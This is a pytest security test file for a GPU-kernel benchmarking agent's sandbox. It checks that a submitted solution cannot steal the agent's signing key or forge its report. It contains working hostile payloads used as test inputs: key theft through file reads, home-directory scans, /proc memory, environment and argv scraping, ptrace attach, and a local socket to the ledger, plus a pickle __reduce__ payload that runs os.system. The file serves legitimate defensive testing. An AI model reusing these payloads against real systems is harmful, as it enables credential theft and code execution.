"""Submitted code never shares a trust boundary with the agent (issue 32, item 1).

A hostile PyTorch solution tries, at import, everything that stole the agent's key before:
the key file by its path, the agent's home, every process it can see (argv naming
``--key``, environment, memory, ptrace), a socket to the ledger, and a write outside its
working directory. Each success is a *leak*. The solution raises with what it stole (as the
original exploit did, so that on the old code the stolen text reached the signed case
reason), or — in the in-process harness test — computes RMSNorm honestly only when nothing
leaked, so a *passed* case is positive proof that every attempt failed.

The end-to-end tests run the real ``kernelindex agent --key FILE --backend cpu-test --once``
against a live ledger and read what the public history shows.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from live_server import live_server
from rerun_results import submit_with_job

from api.server.app import create_app
from api.server.config import ServerConfig
from domain.rerun_binding import DeviceClass
from domain.statements import Role
from gpu_agent.agent import probe
from gpu_agent.backends.registry import CPU_TEST
from gpu_agent.child_process import in_child
from gpu_agent.harness import HarnessConfig, JobSpec, run_job
from gpu_agent.jailed_child import FrameReader, ProtocolError, parse_report
from gpu_agent.python_solutions.sandbox import scrubbed_environment
from gpu_agent.stats import StopPolicy
from ledger.home import LedgerHome
from ledger.signing.authoring import key_registration_envelope
from ledger.signing.keys import SigningKey, key_id_of
from tests.paths import FIXTURES

RMSNORM = FIXTURES / "sol-execbench" / "triton-rmsnorm" / "definition.json"
CLI = [sys.executable, "-m", "api.cli"]
ONCE = ["--backend", "cpu-test", "--once"]
FAST = HarnessConfig(
    stop=StopPolicy(warmup=1, batch=10, min_samples=20, max_samples=40, time_budget_s=0.3),
    bootstrap_resamples=200,
    case_timeout_s=120,
    start_method="forkserver",
)

# What the solution does at import. Formatted with the attacker's best knowledge: the key's
# path, the agent's home, the ledger's port and a folder of the test's to write into.
HOSTILE = r"""
import ctypes, os, re, socket, torch

KEY_PATH, HOME, PORT, ESCAPE, RAISE = {key!r}, {home!r}, {port!r}, {escape!r}, {raise_!r}
ME = os.getpid()
PEM = " ".join(["PRIVATE", "KEY"]).encode()  # made at run time: this source is in the jail
found, stolen = [], []


def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def leak(name, text=b""):
    found.append(name)
    if text:
        stolen.append(text.decode("latin-1")[:600])


try:  # a write outside the working directory (the channel a leaky jail would give)
    with open(os.path.join(ESCAPE, f"ran-{{ME}}"), "w") as f:
        f.write("the solution ran here")
    leak("escape")
except OSError:
    pass
if PEM in read(KEY_PATH):
    leak("key-by-path", read(KEY_PATH))
for base in (HOME, os.path.expanduser("~")):
    for root, _, files in os.walk(base):
        for name in files:
            if PEM in read(os.path.join(root, name)):
                leak("key-in-home", read(os.path.join(root, name)))
for name, value in os.environ.items():
    if name.startswith("KERNELINDEX") or KEY_PATH in value:
        leak("key-in-environment")

libc = ctypes.CDLL(None, use_errno=True)
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == ME:
        continue
    pid = int(entry)
    argv = read(f"/proc/{{pid}}/cmdline").split(b"\0")
    if pid == 1 and argv[0].endswith(b"bwrap"):
        continue  # the jail's own init: holds nothing of the agent's
    leak("sees-a-process")
    if b"--key" in argv:
        path = argv[argv.index(b"--key") + 1].decode()
        where = path if os.path.isabs(path) else f"/proc/{{pid}}/cwd/{{path}}"
        leak("key-from-argv", read(where))
    if b"KERNELINDEX" in read(f"/proc/{{pid}}/environ"):
        leak("environment-of-a-process")
    try:  # the nonce lives in the agent's memory: scan what can be read of it
        maps = read(f"/proc/{{pid}}/maps").decode().splitlines()
        with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as mem:
            budget = 64 << 20
            for line in maps:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or budget <= 0:
                    continue
                try:
                    mem.seek(low)
                    chunk = mem.read(min(high - low, budget))
                except (OSError, OverflowError, ValueError):
                    continue
                budget -= len(chunk)
                leak("memory")
                for hit in re.findall(rb"[0-9a-f]{{64}}", chunk)[:4]:
                    stolen.append(hit.decode())
    except OSError:
        pass
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        leak("ptrace")
        os.waitpid(pid, 0)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as ledger:
        ledger.sendall(b"GET /v1/jobs HTTP/1.0\r\nHost: ledger\r\n\r\n")
        leak("network", ledger.recv(1 << 16))
except OSError:
    pass

if found and RAISE:
    raise RuntimeError("FOUND " + " ".join(sorted(set(found))) + " " + " ".join(stolen))
if RAISE:
    raise RuntimeError("NOTHING-FOUND")


def run(hidden_states, weight, output):
    x = hidden_states.to(torch.float32)
    inv_rms = torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-5)
    result = (x * inv_rms) * weight.to(torch.float32)
    output.copy_((result + (1.0 if found else 0.0)).to(output.dtype))
"""


def hostile_solution(key: Path, home: Path, port: int, escape: Path, *, raise_: bool) -> Any:
    source = HOSTILE.format(
        key=str(key), home=str(home), port=port, escape=str(escape), raise_=raise_
    )
    return {
        "name": "rmsnorm_hostile",
        "definition": "rmsnorm_h4096",
        "author": "an attacker",
        "spec": {
            "languages": ["pytorch"],
            "target_hardware": ["LOCAL"],
            "entry_point": "kernel.py::run",
            "dependencies": ["torch"],
            "destination_passing_style": True,
        },
        "sources": [{"path": "kernel.py", "content": source}],
    }


def workloads(*counts: int) -> list[dict[str, Any]]:
    return [
        {
            "uuid": f"rows-{n}",
            "axes": {"batch_size": n},
            "inputs": {"hidden_states": {"type": "random"}, "weight": {"type": "random"}},
        }
        for n in counts
    ]


@dataclass
class Attacked:
    """An agent's key file and home, an escape folder, and a listening ledger port."""

    key: SigningKey
    key_file: Path
    home: Path
    escape: Path

    def pem_body(self) -> str:
        lines = self.key.to_pem().decode().splitlines()
        return "".join(line for line in lines if not line.startswith("-----"))

    def assert_nothing_stolen_in(self, text: str) -> None:
        assert "PRIVATE KEY" not in text
        assert self.pem_body() not in text
        assert "FOUND " not in text
        assert not any(self.escape.iterdir()), list(self.escape.iterdir())


@pytest.fixture
def attacked(tmp_path: Path) -> Attacked:
    home = tmp_path / "agent-home"
    (home / ".kernelindex").mkdir(parents=True)
    key = SigningKey.generate()
    key_file = home / ".kernelindex" / "agent.pem"
    key.save(key_file)
    escape = tmp_path / "escape"
    escape.mkdir(mode=0o777)
    escape.chmod(0o777)  # writable by anyone: only the jail's mount namespace keeps it out
    return Attacked(key, key_file, home, escape)


# --- the harness, in this process, with the agent's secrets in reach of an unjailed child ---


def test_every_attempt_of_a_hostile_solution_to_reach_the_agent_fails(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KERNELINDEX_AGENT_KEY", str(attacked.key_file))
    monkeypatch.setattr(sys, "argv", [*sys.argv, "--key", str(attacked.key_file)])
    with socket.socket() as listening:  # the ledger's port, as far as the solution knows
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        port = listening.getsockname()[1]
        solution = hostile_solution(
            attacked.key_file, attacked.home, port, attacked.escape, raise_=False
        )
        spec = JobSpec(
            "0b0b0b0b-1111-4222-8333-444455556666",
            "c3" * 32,
            solution,
            json.loads(RMSNORM.read_text()),
            workloads(3),
        )
        result = run_job(spec, "cpu-test", FAST)
    (case,) = result["cases"]
    # RMSNorm is computed right only when not one attempt found anything.
    assert case["status"] == "passed", json.dumps(case)[:3000]
    attacked.assert_nothing_stolen_in(json.dumps(result))


# --- the real agent command against a live ledger ---------------------------------------------


@dataclass
class Ledger:
    home: LedgerHome
    url: str
    port: int
    device: Any

    def submit_and_request(self, folder: Path) -> tuple[str, str]:
        """Submit the solution in ``folder`` and request its rerun: (run digest, nonce)."""
        nonce = secrets.token_hex(32)
        return submit_with_job(self.home, folder, self.device, 40_000_000, nonce), nonce

    def history_text(self, run: str) -> str:
        reply = httpx.get(f"{self.url}/v1/runs/{run}/history")
        assert reply.status_code == 200
        return reply.text


@pytest.fixture
def ledger(tmp_path: Path, attacked: Attacked) -> Iterator[Ledger]:
    home = LedgerHome.at(tmp_path / "ledger")
    opened = home.initialise()
    opened.append(
        key_registration_envelope(
            attacked.key.public, [Role.AGENT], home.key("admin"), devices=[DeviceClass(CPU_TEST)]
        )
    )
    device, _ = probe("cpu-test", FAST)
    app = create_app(opened, ServerConfig(key_rate=0, address_rate=0, json_logs=False))
    with live_server(app) as server:
        yield Ledger(home, server.url, int(server.url.rsplit(":", 1)[1]), device)


def submission(tmp_path: Path, solution: Any) -> Path:
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "definition.json").write_bytes(RMSNORM.read_bytes())
    (folder / "workload.jsonl").write_text(json.dumps(workloads(2)[0]) + "\n")
    (folder / "solution.json").write_text(json.dumps(solution))
    return folder


def run_agent(ledger: Ledger, attacked: Attacked, path: str) -> subprocess.CompletedProcess[str]:
    """``kernelindex agent --once`` as an operator runs it: its key file named on the command
    line and in the environment, its home holding the key."""
    environ = {
        **os.environ,
        "HOME": str(attacked.home),
        "KERNELINDEX_AGENT_KEY": str(attacked.key_file),
        "PATH": path,
    }
    return subprocess.run(
        [*CLI, "agent", "--server", ledger.url, "--key", str(attacked.key_file), *ONCE],
        env=environ,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_the_agent_signs_nothing_a_hostile_solution_stole(
    tmp_path: Path, ledger: Ledger, attacked: Attacked
) -> None:
    solution = hostile_solution(
        attacked.key_file, attacked.home, ledger.port, attacked.escape, raise_=True
    )
    run, nonce = ledger.submit_and_request(submission(tmp_path, solution))
    done = run_agent(ledger, attacked, os.environ["PATH"])
    assert done.returncode == 0, done.stderr
    text = ledger.history_text(run)
    attacked.assert_nothing_stolen_in(text)
    recorded = json.loads(text)["events"][-1]
    assert recorded["event"] == "Run.RerunRecorded"
    (case,) = recorded["predicate"]["cases"]
    assert case["status"] == "error"  # the solution raised; it ran, jailed
    assert nonce not in json.dumps(recorded["predicate"]["cases"])


def test_without_a_working_jail_the_agent_runs_no_submitted_code(
    tmp_path: Path, ledger: Ledger, attacked: Attacked
) -> None:
    """No bwrap on the agent's PATH: the job ends as the agent's failure and the solution,
    which would have written into the escape folder unjailed, never ran."""
    assert shutil.which("bwrap") is not None  # the jail exists on this machine, only hidden
    solution = hostile_solution(
        attacked.key_file, attacked.home, ledger.port, attacked.escape, raise_=True
    )
    run, _ = ledger.submit_and_request(submission(tmp_path, solution))
    done = run_agent(ledger, attacked, str(tmp_path / "no-bwrap-here"))
    assert done.returncode == 0, done.stderr
    assert "no sandbox" in done.stderr.lower()
    recorded = json.loads(ledger.history_text(run))["events"][-1]
    assert recorded["event"] == "Run.RerunRecorded"
    assert recorded["predicate"]["outcome"] == "failed"
    attacked.assert_nothing_stolen_in(ledger.history_text(run))


# --- the jail's edges ------------------------------------------------------------------------

LINGERS = r"""
import os, subprocess, sys, time
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}], start_new_session=True
)
time.sleep(2)  # long enough for the test to see it from outside
raise RuntimeError("left a process behind")
"""

FORGES = r"""
import os, pickle


class Runs:  # unpickling this runs a command in whoever unpickles it
    def __reduce__(self):
        return (os.system, ({command!r},))


forged = pickle.dumps(("ok", Runs()))
for fd in map(int, os.listdir("/proc/self/fd")):
    try:  # a length-prefixed frame on every pipe, as the agent reads its child's report
        if fd > 2 and os.readlink(f"/proc/self/fd/{{fd}}").startswith("pipe:"):
            os.write(fd, len(forged).to_bytes(4, "big") + forged)
    except OSError:
        pass
os._exit(0)
"""


def one_case_job(source: str) -> JobSpec:
    solution = hostile_solution(Path("/none"), Path("/none"), 1, Path("/none"), raise_=True)
    solution["sources"] = [{"path": "kernel.py", "content": source}]
    return JobSpec(
        "0b0b0b0b-1111-4222-8333-444455556666",
        "c3" * 32,
        solution,
        json.loads(RMSNORM.read_text()),
        workloads(2),
    )


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def test_a_case_child_takes_every_process_it_started_with_it(tmp_path: Path) -> None:
    marker = f"kernelindex-lingering-{tmp_path.name}"
    seen: list[int] = []
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            seen.extend(processes_with(marker))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        result = run_job(one_case_job(LINGERS.format(marker=marker)), "cpu-test", FAST)
    finally:
        done.set()
        watcher.join()
    assert seen, "the solution's process never ran"
    assert result["cases"][0]["status"] == "error"
    deadline = time.monotonic() + 10
    while processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes_with(marker) == []


def test_a_forged_report_runs_nothing_in_the_agent(tmp_path: Path) -> None:
    """The child's report is data: a pickle that would run a command when unpickled is a
    malformed report (the case's error), and the command never runs."""
    pwned = tmp_path / "pwned"
    command = f"touch {pwned}"
    result = run_job(one_case_job(FORGES.format(command=command)), "cpu-test", FAST)
    (case,) = result["cases"]
    assert case["status"] == "error"
    assert not pwned.exists()


def test_a_child_that_fails_before_it_is_ready_is_the_agents_failure() -> None:
    """The jail mounts only what a case imports: a task naming the ledger's code cannot even
    be read in there — before any submitted code could run, so the agent's failure."""
    child = in_child(key_id_of, b"x", 60, sandboxed=True)
    assert child.kind == "agent-error"
    assert "before it was ready" in child.value and "No module named 'ledger'" in child.value


def test_the_report_is_read_as_data_and_checked_field_by_field() -> None:
    good = {"status": "passed", "reason": None, "max_abs_error": 0, "samples_ns": [1.5, 2]}
    assert (
        parse_report(json.dumps({"kind": "ok", "outcome": good}).encode())[1].max_abs_error == 0.0
    )
    for bad in (
        b"\x80not json",
        b"[]",
        json.dumps({"kind": "ok", "outcome": {"status": 1}}).encode(),
        json.dumps({"kind": "ok", "outcome": {**good, "samples_ns": ["1"]}}).encode(),
        json.dumps({"kind": "ok", "outcome": {**good, "__class__": "x"}}).encode(),
        json.dumps({"kind": "pickle", "outcome": good}).encode(),
    ):
        with pytest.raises(ProtocolError):
            parse_report(bad)
    with pytest.raises(ProtocolError):
        FrameReader(limit=16).feed((17).to_bytes(4, "big"))


def test_the_jail_passes_the_agents_nvcc_and_no_other_agent_variable() -> None:
    environ = {"KERNELINDEX_NVCC": "/opt/cuda/bin/nvcc", "KERNELINDEX_AGENT_KEY": "/k.pem"}
    assert scrubbed_environment(environ, "/case").get("KERNELINDEX_NVCC") == "/opt/cuda/bin/nvcc"
    assert "KERNELINDEX_AGENT_KEY" not in scrubbed_environment(environ, "/case")
